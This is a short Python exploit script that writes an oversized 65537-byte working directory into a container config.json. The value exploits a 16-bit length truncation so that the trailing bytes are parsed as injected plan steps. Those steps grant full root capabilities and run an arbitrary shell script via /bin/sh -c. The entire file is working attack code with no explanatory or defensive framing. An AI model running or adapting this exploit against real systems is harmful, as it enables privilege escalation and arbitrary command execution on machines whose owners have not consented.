#!/usr/bin/env python3
"""inject.py STEPS.H CONFIG.JSON SCRIPT: puts into CONFIG.JSON a working directory that is the whole rest of a plan.

Its length is 65537. Whoever keeps lengths in 16 bits reads one byte ("/") of it, and then, as the steps that follow:
be ready, have root's capabilities, execute SCRIPT. The format is that of src/base/reader.h."""
import json
import re
import struct
import sys

header, path, script = sys.argv[1:]
names = re.findall(r'^  X\((\w+),', open(header).read(), re.M)
ALL = 0x7f7f7f7f7f & ~(0xff << 40)  # no byte above 127: the text is UTF-8


def number(n):
    return struct.pack('<Q', n)


def text(s):
    return number(len(s)) + s.encode() + b'\0'


def texts(*many):
    return number(len(many)) + b''.join(map(text, many))


def step(name, *members):
    return number(names.index(name)) + b''.join(members)


plan = step('ready')
plan += step('credentials', number(0), number(0), number(1), number(0), number(1), *[number(ALL)] * 3, number(0), number(0))
plan += step('program', texts('/bin/sh', '-c', script), texts('PATH=/bin:/sbin:/usr/bin'), number(0), number(0))
plan += step('exec', number(3))
cwd = b'/\0' + plan
cwd += b'x' * (65537 - len(cwd))
config = json.load(open(path))
config['process']['cwd'] = cwd.decode('ascii')
json.dump(config, open(path, 'w'))
